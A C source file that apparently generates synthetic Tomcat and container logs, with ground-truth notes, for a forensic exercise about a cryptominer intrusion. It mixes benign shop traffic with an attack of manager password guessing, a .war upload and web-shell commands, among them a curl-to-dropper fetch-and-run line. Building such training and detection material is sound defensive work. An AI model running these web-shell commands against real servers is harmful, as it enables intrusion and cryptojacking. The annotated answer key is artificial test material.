/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tomcat.c - the Tomcat side of the tomcat-miner story: the AccessLogValve file of the pod
 * (default pattern `%h %l %u %t "%r" %s %b`, kept in the container's upper layer) and the
 * container's json-file log (catalina JUL lines and the shop application's log on stdout).
 * Benign: kube-probe health checks, shop customers, internet scanners, a CI deploy through
 * the manager text API. Attack: manager password guessing, login, .war upload, web shell use.
 */
#include "tm.h"

#include <stdio.h>
#include <string.h>

struct sb access_log;

static const char *const pages[] = {
    "/", "/products", "/products?category=garden", "/products?category=kitchen",
    "/products/1042", "/products/2210", "/products/3307", "/products/4471", "/search?q=lamp",
    "/search?q=chair", "/cart", "/account", "/static/css/app.css", "/static/js/app.js",
    "/static/img/logo.svg", "/favicon.ico", "/api/cart/items", "/api/recommendations",
};
static const char *const scans[] = {
    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin/config.php",
    "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env",
    "/solr/admin/info/system", "/boaform/admin/formLogin",
};

/* Client addresses: documentation ranges, never the attacker's. */
static void client_ip(char out[20])
{
    static const char *const nets[] = { "192.0.2.", "198.51.100.", "203.0.113." };
    unsigned host;

    do
        host = 10 + (unsigned)rng_n(240);
    while (host == 73 || host == 199 || host == 57);
    snprintf(out, 20, "%s%u", PICK(nets), host);
}

/* A second of the day drawn with more weight in shop hours (07:00-22:00). */
static int busy_second(void)
{
    int h = (int)rng_n(24);

    if ((h < 7 || h > 21) && rng_n(3))
        h = 7 + (int)rng_n(15);
    return h * 3600 + (int)rng_n(3600);
}

static void acc(struct lines *ls, int64_t t, int tag, const char *ip, const char *user,
                const char *req, int status, long bytes)
{
    char ts[TF_LEN], b[24];

    tf_clf(ts, (t) / NS);
    if (bytes > 0)
        snprintf(b, sizeof(b), "%ld", bytes);
    else
        snprintf(b, sizeof(b), "-");
    lines_add(ls, t, tag, "%s - %s [%s] \"%s\" %d %s", ip, user, ts, req, status, b);
}

/* One json-file log line of the container. */
static void ctrlog(struct lines *ls, int64_t t, int tag, const char *stream, const char *text)
{
    struct sb b = { 0 };
    char ts[TF_LEN], msg[4096];

    /* dockerd stamps the line when it reads it: a little later, with nanoseconds */
    tf_iso_ns(ts, t + rng_range(20000, 900000));
    snprintf(msg, sizeof(msg), "%s\n", text);
    sb_s(&b, "{\"log\":");
    json_str_go(&b, msg);
    sb_f(&b, ",\"stream\":\"%s\",\"time\":\"%s\"}", stream, ts);
    lines_take(ls, t, tag, &b);
}

static void jul(char *out, size_t n, int64_t t, const char *lvl, const char *thr, const char *txt)
{
    char ts[TF_LEN];
    static const char *const mon[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                       "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };
    int d, m, y;

    tf_log_ms(ts, (t) / 1000000, '.'); /* 2026-10-20 11:03:06.412 */
    sscanf(ts, "%d-%d-%d", &y, &m, &d);
    snprintf(out, n, "%02d-%s-%04d %s %s [%s] %s", d, mon[m - 1], y, ts + 11, lvl, thr, txt);
}

static void app(char *out, size_t n, int64_t t, const char *lvl, const char *thr,
                const char *logger, const char *txt)
{
    char ts[TF_LEN];

    tf_log_ms(ts, (t) / 1000000, '.');
    snprintf(out, n, "%s %5s 1 --- [%15s] %-40s : %s", ts, lvl, thr, logger, txt);
}

enum { TAG_SCAN = 1, TAG_401, TAG_LOGIN, TAG_UPLOAD, TAG_ID, TAG_CMD, TAG_PS,
       TAG_DEPLOY_LOG, TAG_DEPLOYED, TAG_CI };

static void gen_benign(struct lines *acl, struct lines *con)
{
    char ip[20], req[2048], msg[1024], thr[24];
    int s, i, n;

    for (s = 0; s < 86400; s += 10) {
        int64_t t = at(s) + rng_range(0, 400) * 1000000LL;
        acc(acl, t, 0, NODE_IP, "-", "GET /health HTTP/1.1", 200, 15);
        if (s % 20 == 0)
            acc(acl, t + 3 * NS, 0, NODE_IP, "-", "GET /health/live HTTP/1.1", 200, 2);
    }
    n = 2600 * scale;
    for (i = 0; i < n; i++) {
        int64_t t = jitter_ms(at(busy_second()));
        const char *p = PICK(pages);
        int k, visits = 1 + (int)rng_n(4);
        client_ip(ip);
        for (k = 0; k < visits; k++) {
            snprintf(req, sizeof(req), "GET %s HTTP/1.1", p);
            acc(acl, t, 0, ip, "-", req, 200, 800 + (long)rng_n(40000));
            t += rng_range(1, 40) * NS / 4;
            p = PICK(pages);
        }
        if (rng_n(9) == 0) {
            acc(acl, t, 0, ip, "-", "POST /api/cart/items HTTP/1.1", 201, 212);
            acc(acl, t + 2 * NS, 0, ip, "-", "POST /checkout HTTP/1.1", 302, 0);
            unsigned order = 50000 + (unsigned)rng_n(20000), items = 1 + (unsigned)rng_n(5);
            unsigned eur = 10 + (unsigned)rng_n(300), cents = (unsigned)rng_n(100);
            snprintf(thr, sizeof(thr), "nio-8080-exec-%u", 1 + (unsigned)rng_n(10));
            snprintf(msg, sizeof(msg), "order %u placed (%u items, %u.%02u EUR)", order, items,
                     eur, cents);
            app(req, sizeof(req), t + 2 * NS, "INFO", thr, "c.a.shop.web.CheckoutController",
                msg);
            ctrlog(con, t + 2 * NS, 0, "stdout", req);
        }
    }
    n = 60 * scale;
    for (i = 0; i < n; i++) {
        int64_t t = jitter_ms(at((int)rng_n(86400)));
        client_ip(ip);
        snprintf(req, sizeof(req), "GET %s HTTP/1.1", PICK(scans));
        acc(acl, t, 0, ip, "-", req, 404, 762);
    }
    /* Hourly cache refresh, and a CI deploy of the reports app through the text API. */
    for (s = 1800; s < 86400; s += 3600) {
        app(msg, sizeof(msg), jitter_ms(at(s)), "INFO", "scheduling-1",
            "c.a.shop.catalog.CatalogCache", "catalog cache refreshed (4,812 products)");
        ctrlog(con, at(s), 0, "stdout", msg);
    }
    s = 9 * 3600 + 15 * 60 + 4;
    acc(acl, at(s), TAG_CI, "10.42.0.15", "deployer",
        "PUT /manager/text/deploy?path=/reports&update=true HTTP/1.1", 200, 62);
    jul(msg, sizeof(msg), at(s) + 90 * 1000000LL, "INFO", "http-nio-8080-exec-2",
        "org.apache.catalina.startup.HostConfig.deployWAR Deploying web application archive "
        "[/usr/local/tomcat/webapps/reports.war]");
    ctrlog(con, at(s) + 90 * 1000000LL, 0, "stderr", msg);
    jul(msg, sizeof(msg), at(s) + 702 * 1000000LL, "INFO", "http-nio-8080-exec-2",
        "org.apache.catalina.startup.HostConfig.deployWAR Deployment of web application "
        "archive [/usr/local/tomcat/webapps/reports.war] has finished in [612] ms");
    ctrlog(con, at(s) + 702 * 1000000LL, 0, "stderr", msg);
}

static void gen_attack(struct lines *acl, struct lines *con)
{
    static const char *const nonce = "4F1C9A7E2B8D03C65E7A1F9B2D4C6E80";
    char req[512], msg[1024];
    int i;

    acc(acl, at(T_SCAN), TAG_SCAN, ATTACKER, "-", "GET / HTTP/1.1", 200, 11482);
    acc(acl, at(T_SCAN) + 410 * 1000000LL, 0, ATTACKER, "-", "GET /manager/html HTTP/1.1",
        401, 2473);
    for (i = 0; i < 17; i++)
        acc(acl, at(T_SCAN + 20 + i * 13) + rng_range(0, 900) * 1000000LL, i == 0 ? TAG_401 : 0,
            ATTACKER, "-", "GET /manager/html HTTP/1.1", 401, 2473);
    acc(acl, at(T_LOGIN) + 118 * 1000000LL, TAG_LOGIN, ATTACKER, MGR_USER,
        "GET /manager/html HTTP/1.1", 200, 17211);
    snprintf(req, sizeof(req),
             "POST /manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=%s HTTP/1.1",
             nonce);
    acc(acl, at(T_UPLOAD) + 207 * 1000000LL, TAG_UPLOAD, ATTACKER, MGR_USER, req, 200, 18904);
    jul(msg, sizeof(msg), at(T_UPLOAD) + 412 * 1000000LL, "INFO", "http-nio-8080-exec-4",
        "org.apache.catalina.startup.HostConfig.deployWAR Deploying web application archive "
        "[" WAR "]");
    ctrlog(con, at(T_UPLOAD) + 412 * 1000000LL, TAG_DEPLOY_LOG, "stderr", msg);
    jul(msg, sizeof(msg), at(T_UPLOAD) + 731 * 1000000LL, "INFO", "http-nio-8080-exec-4",
        "org.apache.catalina.startup.HostConfig.deployWAR Deployment of web application "
        "archive [" WAR "] has finished in [319] ms");
    ctrlog(con, at(T_UPLOAD) + 731 * 1000000LL, TAG_DEPLOYED, "stderr", msg);
    acc(acl, at(T_UPLOAD + 9) + 33 * 1000000LL, 0, ATTACKER, "-", "GET /x/ HTTP/1.1", 200, 391);
    acc(acl, at(T_CMD - 11) + 508 * 1000000LL, TAG_ID, ATTACKER, "-",
        "GET " SHELL_URL "?cmd=id HTTP/1.1", 200, 61);
    acc(acl, at(T_CMD) + 122 * 1000000LL, TAG_CMD, ATTACKER, "-",
        "GET " SHELL_URL "?cmd=curl+-fsSL+http%3A%2F%2F" DROPPER "%2Fzzz+-o+%2Ftmp%2Fzzz%3B"
        "+sh+%2Ftmp%2Fzzz HTTP/1.1", 200, 0);
    acc(acl, at(T_POOL + 64) + 870 * 1000000LL, TAG_PS, ATTACKER, "-",
        "GET " SHELL_URL "?cmd=ps+aux HTTP/1.1", 200, 1893);
}

void gen_tomcat(void)
{
    struct lines acl = { 0 }, con = { 0 };
    struct sb clb = { 0 };
    const char *acf = DOCKER_ROOT "/overlay2/" MOUNT_ID "/diff/" ACCESS_LOG_IN_LAYER;
    const char *clf = DOCKER_ROOT "/containers/" CID "/" CID "-json.log";
    char line[1024];
    int64_t start = day0 - T_POD_START_DAYS_AGO * 86400 * NS + (int64_t)(14 * 3600 + 7) * NS;

    /* Catalina start-up when the pod started, two days earlier. */
    jul(line, sizeof(line), start + 912 * 1000000LL, "INFO", "main",
        "org.apache.catalina.startup.VersionLoggerListener.log Server version name:   "
        "Apache Tomcat/9.0.65");
    ctrlog(&con, start + 912 * 1000000LL, 0, "stderr", line);
    jul(line, sizeof(line), start + 3 * NS, "INFO", "main",
        "org.apache.catalina.startup.HostConfig.deployWAR Deploying web application archive "
        "[/usr/local/tomcat/webapps/ROOT.war]");
    ctrlog(&con, start + 3 * NS, 0, "stderr", line);
    jul(line, sizeof(line), start + 9 * NS, "INFO", "main",
        "org.apache.catalina.startup.Catalina.start Server startup in [6211] milliseconds");
    ctrlog(&con, start + 9 * NS, 0, "stderr", line);

    gen_benign(&acl, &con);
    gen_attack(&acl, &con);
    lines_render(&acl, &access_log);
    lines_render(&con, &clb);
    out_file(clf, clb.p, clb.n);

    note(at(T_SCAN), acf, lines_tag(&acl, TAG_SCAN),
         "first request from the attacker " ATTACKER " (GET /), then GET /manager/html 401");
    note(at(T_SCAN + 20), acf, lines_tag(&acl, TAG_401),
         "manager password guessing: 17 x GET /manager/html 401 from " ATTACKER);
    note(at(T_LOGIN), acf, lines_tag(&acl, TAG_LOGIN),
         "manager login with the weak credentials of user '" MGR_USER "' (200)");
    note(at(T_UPLOAD), acf, lines_tag(&acl, TAG_UPLOAD),
         "upload of x.war through /manager/html/upload");
    note(at(T_UPLOAD), clf, lines_tag(&con, TAG_DEPLOY_LOG),
         "catalina: Deploying web application archive [" WAR "]");
    note(at(T_CMD - 11), acf, lines_tag(&acl, TAG_ID), "web shell " SHELL_URL "?cmd=id");
    note(at(T_CMD), acf, lines_tag(&acl, TAG_CMD),
         "web shell runs curl http://" DROPPER "/zzz -o /tmp/zzz; sh /tmp/zzz");
    note(at(T_POOL + 64), acf, lines_tag(&acl, TAG_PS), "web shell ps aux (checks the miner)");
    note(at(9 * 3600 + 15 * 60 + 4), acf, lines_tag(&acl, TAG_CI),
         "BENIGN: CI (10.42.0.15, user deployer) deploys /reports via the manager text API");
    lines_free(&acl);
    lines_free(&con);
    free(clb.p);
}
